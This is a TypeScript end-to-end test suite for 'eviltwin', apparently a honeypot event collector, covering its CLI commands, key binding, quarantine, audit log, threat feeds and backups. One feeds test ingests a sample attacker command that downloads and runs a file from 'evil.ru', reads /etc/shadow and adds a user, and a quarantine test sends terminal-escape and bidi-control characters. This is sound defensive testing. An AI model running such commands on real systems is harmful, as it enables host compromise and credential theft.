import { existsSync, readFileSync, statSync } from 'node:fs'
import { userInfo } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { ApiKey, DashboardStats, IngestMany } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { realLines } from '../server/src/testing/real-data.js'
import { until } from '../server/src/testing/until.js'
import {
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
  reader,
  SENSOR_KEY,
} from './server-process.js'

const CAPTURE = fileURLToPath(new URL('../server/demo/capture.ndjson', import.meta.url))

describe('the first start', () => {
  let installation: Installation
  let server: RunningServer
  beforeAll(async () => {
    installation = await createInstallation()
    server = await installation.start()
  })
  afterAll(async () => {
    await server.kill('SIGTERM')
    installation.remove()
  })

  test('prints a password, a sensor key and a curl line that all work, and only JSON on stdout', async () => {
    const { stderr } = await until(
      () => server.output().stderr.includes('Send a first event') && server.output(),
    )
    const password = /Log in as admin with password (\S+)/.exec(stderr)?.[1] ?? ''
    const [, key, body] = /Authorization: Bearer (\S+)' .* -d '(.*)'/.exec(stderr) ?? []
    const sent = await fetch(`${installation.url}/log`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      body: body ?? '',
    })
    expect(await sent.json()).toMatchObject({ status: 'processed' })
    const get = await reader(installation.url, password)
    expect(await get<DashboardStats>('/dashboard/stats')).toMatchObject({ total_events: 1 })
    await server.kill('SIGTERM')
    expect(server.process.exitCode).toBe(0)
    const { stdout } = server.output()
    const lines = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    for (const line of lines)
      expect(line).toMatchObject({
        timestamp: expect.any(String),
        level: expect.any(String),
        logger: expect.any(String),
        message: expect.any(String),
      })
    expect(lines.map(({ message }) => message)).toEqual(
      expect.arrayContaining(['Service started', 'Event ingested', 'Service stopped']),
    )
    expect(stdout).not.toContain(password)
    expect(stdout).not.toContain(key)
    server = await installation.start()
    await until(() => server.output().stderr.includes('is running'))
    expect(server.output().stderr).not.toContain('shown this once')
  })

  test('a stop that arrives twice at once, as from a supervisor, is still a graceful one', async () => {
    server.process.kill('SIGTERM')
    await server.kill('SIGTERM')
    expect(server.process.exitCode).toBe(0)
    expect(server.output().stdout).toContain('Service stopped')
    expect(existsSync(join(installation.dataDir, 'postgres', 'cluster', 'postmaster.pid'))).toBe(false)
  })
})

describe('commands', () => {
  let installation: Installation
  let server: RunningServer
  beforeAll(async () => {
    installation = await createInstallation({ ADMIN_PASSWORD: PASSWORD, BOOTSTRAP_SENSOR_KEY: SENSOR_KEY })
    server = await installation.start()
  })
  afterAll(async () => {
    await server.kill('SIGTERM')
    installation.remove()
  })

  test('replay accounts for every line, and a second time for none anew', async () => {
    const lines = readFileSync(CAPTURE, 'utf8').trim().split('\n')
    const first = await installation.run('replay', CAPTURE, '--batch', '100')
    expect(first).toMatchObject({
      code: 0,
      stdout: `${lines.length} lines: ${lines.length} accepted, 0 duplicates, 0 quarantined\n`,
    })
    const second = await installation.run('replay', CAPTURE)
    expect(second.stdout).toBe(
      `${lines.length} lines: 0 accepted, ${lines.length} duplicates, 0 quarantined\n`,
    )
    const stats = await (await reader(installation.url))<DashboardStats>('/dashboard/stats')
    const records = lines.map((line) => JSON.parse(line))
    expect(stats.all_time).toMatchObject({
      events: lines.length,
      sessions: new Set(records.map(({ sensor, session }) => `${sensor} ${session}`)).size,
      attackers: new Set(records.map(({ src_ip }) => src_ip)).size,
    })
  })

  test('wrong usage is explained with exit code 2, failures with 1', async () => {
    const unknown = await installation.run('frobnicate')
    expect(unknown.code).toBe(2)
    expect(unknown.stderr).toContain('unknown command')
    const missing = await installation.run('replay', '/nowhere')
    expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining('/nowhere cannot be read') })
    const rejected = await installation.run('replay', CAPTURE, '--key', 'wrong')
    expect(rejected).toMatchObject({ code: 1, stderr: expect.stringContaining('EVILTWIN_KEY') })
    for (const command of [
      'start',
      'replay',
      'user',
      'key',
      'audit',
      'quarantine',
      'feeds',
      'migrate',
      'backup',
      'restore',
    ]) {
      expect(await installation.run(command, '--help')).toMatchObject({
        code: 0,
        stdout: expect.stringContaining('Usage:'),
      })
    }
    const occupied = await installation.run('start')
    expect(occupied.code).toBe(1)
    expect(occupied.stderr).toContain('PORT of the server')
  })

  test('users and keys are managed beside the running server', async () => {
    const added = await installation.run('user', 'add', 'Dana', '--role', 'analyst')
    const password = /password: (\S+)/.exec(added.stdout)?.[1]
    expect(added.stdout).toContain('added dana (analyst)')
    expect(password).toBeTruthy()
    expect((await installation.run('user', 'list')).stdout).toMatch(/dana\s+analyst\s+active/)
    expect(await installation.run('user', 'add', 'dana')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('is taken'),
    })
    const changed = await installation.run('user', 'passwd', 'dana')
    expect(changed.stdout).not.toContain(password)
    const key = (await installation.run('key', 'add', 'spare', '--sensor', 'cowrie-9')).stdout.trim()
    const send = () =>
      fetch(`${installation.url}/log`, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
        body: JSON.stringify({ source_ip: '192.0.2.1', time: new Date().toISOString() }),
      })
    expect((await send()).status).toBe(200)
    const listed = await installation.run('key', 'list', '--json')
    const { id, sensor_id } = listed.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
      .find(({ name }) => name === 'spare')
    expect(sensor_id).toBe('cowrie-9')
    expect((await installation.run('key', 'revoke', id)).code).toBe(0)
  })

  test.each<[string[], string]>([
    [['add', 'x', '--scope', 'metrics:read', '--sensor', 'y'], 'without the scope ingest sends no events'],
    [['add', 'x', '--scope', 'metrics:read', '--collector', 'y'], 'or add --scope ingest'],
    [
      ['add', 'x', '--scope', 'feeds:read', '--any-sensor'],
      'leave --sensor, --collector and --any-sensor out',
    ],
    [['add', 'x', '--scope', 'root'], 'Allowed choices are ingest'],
    [['add', 'x', '--sensor', 'y', '--any-sensor'], 'cannot be used with'],
    [['add', 'x', '--sensor', 'y', '--collector', 'z'], 'cannot be used with'],
    [['add', 'x', '--sensor', '\u200b'], 'no control, invisible or replacement characters'],
    [['add', 'x', '--sensor', 'canary-wiki-0a1b2c'], 'the ids of canary tokens are reserved'],
    [['add', 'x', '--sensor', ''], 'at least one character'],
    [['add'], "missing required argument 'name'"],
    [['bind', 'no-id', '--sensor', 'y'], 'see: eviltwin key list'],
    [['bind', '0b5e9c1e-7c1d-4f0e-9f6d-0d8d7f6a5b4c'], 'use exactly one of --sensor'],
    [
      ['bind', '0b5e9c1e-7c1d-4f0e-9f6d-0d8d7f6a5b4c', '--sensor', 'y', '--first-use'],
      'use exactly one of --sensor',
    ],
    [['revoke', 'no-id'], 'see: eviltwin key list'],
  ])('key %j is wrong usage, with cause and next step', async (args, reason) => {
    const { code, stdout, stderr } = await installation.run('key', ...args)
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
    expect(stderr).toContain(reason)
  })

  test('wrong usage of `key add` makes no key', async () => {
    const { stdout } = await installation.run('key', 'list', '--json')
    expect(stdout).toContain('"name":"bootstrap"')
    expect(stdout).not.toContain('"name":"x"')
  })

  test('the quarantine is listed without obeying what is in it, and replayed', async () => {
    await fetch(`${installation.url}/log`, {
      method: 'POST',
      headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/x-ndjson' },
      body: '{"hostile\u202e": 1}\n{"cut\u001b[2J',
    })
    const { stdout } = await installation.run('quarantine', 'list')
    expect(stdout).toContain('missing_source_ip')
    expect(stdout).toContain('invalid_json')
    expect(stdout).not.toMatch(/(?!\n)\p{Cc}|\u202e/u)
    expect((await installation.run('quarantine', 'replay')).stdout).toBe(
      '0 became events, 2 stay in the quarantine\n',
    )
    expect(
      (await installation.run('quarantine', 'replay', '--reason', 'invalid_json', '--dry-run')).stdout,
    ).toMatch(/^1 records, \d+ bytes, 1 of them can be replayed\n$/)
  })

  test('quarantined records are deleted by a filter, and only when --yes says so', async () => {
    const usage = await installation.run('quarantine', 'usage')
    expect(usage.stdout).toMatch(/^2 records, \d+ of 1073741824 bytes; 134217728 bytes a key; 0 evicted$/m)
    expect((await installation.run('quarantine', 'delete')).code).toBe(2)
    expect(
      (await installation.run('quarantine', 'delete', '--reason', 'invalid_json', '--from', 'now')).code,
    ).toBe(2)
    const preview = await installation.run('quarantine', 'delete', '--reason', 'invalid_json')
    expect(preview.stdout).toMatch(/^1 records.*\nnothing was deleted; add --yes to delete them\n$/)
    const deleted = await installation.run('quarantine', 'delete', '--reason', 'invalid_json', '--yes')
    expect(deleted.stdout).toBe('1 deleted\n')
    const { stdout } = await installation.run('quarantine', 'list', '--json')
    const [left] = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: string; reason: string })
    expect(left?.reason).toBe('missing_source_ip')
    expect((await installation.run('quarantine', 'delete', left?.id ?? '', '--yes')).stdout).toBe(
      '1 deleted\n',
    )
    expect((await installation.run('quarantine', 'list')).stdout).toContain('0 of 0')
  })

  test('the audit log says what commands did, and is verified; erased details break nothing', async () => {
    const user = userInfo().username
    const list = async () => (await installation.run('audit', 'list')).stdout
    expect(await list()).toMatch(new RegExp(`${user} +api_key.revoke +succeeded +spare`))
    const whole = await installation.run('audit', 'verify')
    const [, anchor = ''] = /head (\d+:[0-9a-f]{64})/.exec(whole.stdout) ?? []
    expect([whole.code, whole.stdout]).toEqual([0, expect.stringMatching(/^\d+ entries; head /)])
    expect((await installation.run('audit', 'erase', '--actor', user)).code).toBe(2)
    expect((await installation.run('audit', 'erase', '--actor', user, '--yes')).code).toBe(0)
    const after = await installation.run('audit', 'verify', '--anchor', anchor)
    expect([after.code, after.stdout]).toEqual([0, expect.stringContaining('were erased')])
    expect(await list()).toMatch(/\(erased\) +api_key.revoke/)
    expect(await list()).toContain('audit.erase')
    const forged = `${anchor.split(':')[0]}:${'0'.repeat(64)}`
    expect(await installation.run('audit', 'verify', '--anchor', forged)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('not that of the anchor'),
    })
    const exported = (await installation.run('audit', 'export')).stdout.trim().split('\n')
    expect(exported.map((line) => JSON.parse(line).seq)).toEqual(exported.map((_, n) => n + 1))
    expect(await list()).toContain('audit.export')
  })

  test('the feeds explain what they list, and what is allowed leaves them beside the running server', async () => {
    await fetch(`${installation.url}/log`, {
      method: 'POST',
      headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        source_ip: '45.9.148.3',
        time: new Date().toISOString(),
        command: 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q',
      }),
    })
    const explained = () => installation.run('feeds', 'explain', '45.9.148.3')
    expect((await explained()).stdout).toContain('ipv4-addr 45.9.148.3 is listed\n')
    expect((await installation.run('feeds', 'preview')).stdout).toMatch(/listed +ipv4-addr +45\.9\.148\.3 /)
    const allowed = await installation.run('feeds', 'allow', '45.9.148.0/24', '--reason', 'our own scanner')
    const id = /\(([0-9a-f-]{36})\)/.exec(allowed.stdout)?.[1] ?? ''
    expect((await explained()).stdout).toContain('never listed: 45.9.148.0/24 is in "allowlist: networks"')
    const get = await reader(installation.url)
    expect((await get<{ items: object[] }>('/feeds/iocs')).items).toEqual([])
    expect((await installation.run('feeds', 'allowlist')).stdout).toContain('our own scanner')
    expect((await installation.run('feeds', 'disallow', id)).code).toBe(0)
    const audited = (await installation.run('audit', 'list', '--action', 'feed_allowlist.')).stdout
    for (const action of ['add', 'remove'])
      expect(audited).toMatch(new RegExp(`feed_allowlist\\.${action} +succeeded +45\\.9\\.148\\.0/24`))
    expect((await explained()).stdout).toContain('is listed\n')
    expect((await installation.run('audit', 'list', '--action', 'feed_allowlist.')).stdout).toMatch(
      /feed_allowlist\.remove +succeeded +45\.9\.148\.0\/24[\s\S]*feed_allowlist\.add +succeeded +45\.9\.148\.0\/24/,
    )
    const notAnId = await installation.run('feeds', 'disallow', 'x')
    expect([notAnId.code, notAnId.stderr]).toEqual([
      2,
      'eviltwin: x is not the id of an allowlist entry; see: eviltwin feeds allowlist\n',
    ])
    const abbreviated = await installation.run('feeds', 'allow', '10/8', '--reason', 'our own network')
    expect([abbreviated.code, abbreviated.stderr]).toEqual([
      1,
      'eviltwin: send an address, a network such as 198.18.0.0/24, a domain name such as example.com, a URL or a SHA-256\n',
    ])
    expect((await installation.run('feeds', 'lists')).stdout).toContain('IANA IPv4 Special-Purpose')
    expect((await installation.run('feeds', 'explain', 'nonsense')).code).toBe(1)
    expect((await installation.run('feeds', 'preview', '--hours', 'many')).code).toBe(2)
  })

  test('a backup of the running server restores on another', async () => {
    const file = join(installation.dataDir, 'backup.tar.gz')
    expect((await installation.run('backup', file)).code).toBe(0)
    expect(statSync(file).mode & 0o077).toBe(0)
    expect((await installation.run('backup', file)).stderr).toContain('--force')
    const other = await createInstallation({ ADMIN_PASSWORD: 'another end to end password' })
    try {
      expect(await other.run('restore', file)).toMatchObject({ code: 0, stderr: '' })
      const restored = await other.start()
      const expected = await (await reader(installation.url))<DashboardStats>('/dashboard/stats')
      const found = await (await reader(other.url))<DashboardStats>('/dashboard/stats')
      expect(found.all_time).toEqual(expected.all_time)
      await restored.kill('SIGTERM')
    } finally {
      other.remove()
    }
  })

  // Last: what it leaves in the quarantine would be counted by the tests before.
  test('keys are bound by flags, and bound otherwise; each flag is shown as it was given', async () => {
    const keyOf = async (name: string) => {
      const { stdout } = await installation.run('key', 'list', '--json')
      const keys = stdout.trim().split('\n')
      return keys.map((line) => JSON.parse(line) as ApiKey).find((key) => key.name === name) as ApiKey
    }
    const send = async (key: string, ...sensors: string[]) => {
      const records = sensors.map((sensor_id, n) => ({
        source_ip: '192.0.2.1',
        time: new Date().toISOString(),
        n,
        sensor_id,
      }))
      const response = await fetch(`${installation.url}/log`, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
        body: JSON.stringify(records),
      })
      const { accepted, quarantined } = (await response.json()) as IngestMany
      return { accepted, quarantined }
    }
    const add = async (...args: string[]) => {
      const { code, stdout, stderr } = await installation.run('key', 'add', ...args)
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
      expect(stdout).toMatch(/^et_[\w-]{43}\n$/)
      return stdout.trim()
    }
    const named = await add('cli-named', '--sensor', 'cli-1')
    expect(await keyOf('cli-named')).toMatchObject({ sensor_id: 'cli-1', bound_by: 'operator' })
    expect(await send(named, 'other')).toEqual({ accepted: 1, quarantined: 0 })
    const collector = await add('cli-collector', '--collector', 'cli-2', 'cli-3')
    expect(await keyOf('cli-collector')).toMatchObject({ kind: 'collector', sensor_ids: ['cli-2', 'cli-3'] })
    expect(await send(collector, 'cli-2', 'cli-3', 'cli-4')).toEqual({ accepted: 2, quarantined: 1 })
    await add('cli-any', '--any-sensor')
    expect(await keyOf('cli-any')).toMatchObject({ any_sensor: true })
    await add('cli-scopes', '--scope', 'metrics:read', 'feeds:read')
    expect(await keyOf('cli-scopes')).toMatchObject({ scopes: ['metrics:read', 'feeds:read'], kind: null })

    const first = await add('cli-first')
    const { id } = await keyOf('cli-first')
    expect(await send(first, 'cli-5')).toEqual({ accepted: 1, quarantined: 0 })
    expect(await keyOf('cli-first')).toMatchObject({ sensor_id: 'cli-5', bound_by: 'first_use' })
    const bind = async (...args: string[]) => (await installation.run('key', 'bind', id, ...args)).stdout
    expect(await bind('--collector', 'cli-5', 'cli-6', 'cli-7')).toBe(
      `cli-first (${id}) speaks for cli-5 and 2 more\n`,
    )
    expect(await bind('--any-sensor')).toBe(`cli-first (${id}) speaks for ANY SENSOR\n`)
    expect(await bind('--sensor', 'cli-8')).toBe(`cli-first (${id}) speaks for cli-8\n`)
    expect(await bind('--first-use')).toBe(`cli-first (${id}) speaks for that of its first record\n`)
    const { stdout: listed } = await installation.run('key', 'list')
    expect(listed).toMatch(/cli-collector .* ingest +cli-2 and 1 more +active/)
    expect(listed).toMatch(/cli-any .* ANY SENSOR +active/)
    expect(listed).toMatch(/cli-scopes .* metrics:read,feeds:read +none +active/)

    expect(await installation.run('key', 'revoke', id)).toMatchObject({
      code: 0,
      stdout: `revoked cli-first (${id})\n`,
    })
    expect(await installation.run('key', 'bind', id, '--sensor', 'cli-8')).toMatchObject({
      code: 1,
      stderr: expect.stringMatching(/the key cli-first was revoked at .* create a new key/),
    })
  })
})

describe.runIf(realLines('cowrie').length > 0)('real captures', () => {
  test('sessions and addresses are those in the files, and no line is lost', async () => {
    const installation = await createInstallation({
      ADMIN_PASSWORD: PASSWORD,
      BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
    })
    const server = await installation.start()
    try {
      const data = fileURLToPath(new URL('../../shared/data/', import.meta.url))
      const days = ['23', '24', '25'].map((day) => `${data}cowrie/2026-03-${day}.ndjson.gz`)
      const lines = realLines('cowrie')
      const replayed = await installation.run('replay', ...days)
      expect(replayed.stdout).toBe(
        `${lines.length} lines: ${lines.length} accepted, 0 duplicates, 0 quarantined\n`,
      )
      const records = lines.map((line) => JSON.parse(line))
      const get = await reader(installation.url)
      expect((await get<DashboardStats>('/dashboard/stats')).all_time).toMatchObject({
        events: lines.length,
        sessions: new Set(records.map(({ session }) => session)).size,
        attackers: new Set(records.map(({ src_ip }) => src_ip)).size,
      })
      const dionaea = realLines('dionaea')
      const second = await installation.run('replay', `${data}dionaea/log_json.ndjson.gz`)
      expect(second.stdout).toBe(
        `${dionaea.length} lines: ${dionaea.length} accepted, 0 duplicates, 0 quarantined\n`,
      )
      const again = await installation.run('replay', ...days, `${data}dionaea/log_json.ndjson.gz`)
      expect(again.stdout).toContain(': 0 accepted,')
    } finally {
      await server.kill('SIGTERM')
      installation.remove()
    }
  })
})

test('a start that fails half way says why, ends, and leaves no database running', async () => {
  const installation = await createInstallation({ SLO_DIR: '/nowhere' })
  const { code, stderr } = await installation.run('start')
  expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining('/nowhere') })
  const cluster = join(installation.dataDir, 'postgres', 'cluster')
  expect(existsSync(join(cluster, 'PG_VERSION'))).toBe(true)
  expect(existsSync(join(cluster, 'postmaster.pid'))).toBe(false)
  installation.remove()
}, 60_000)
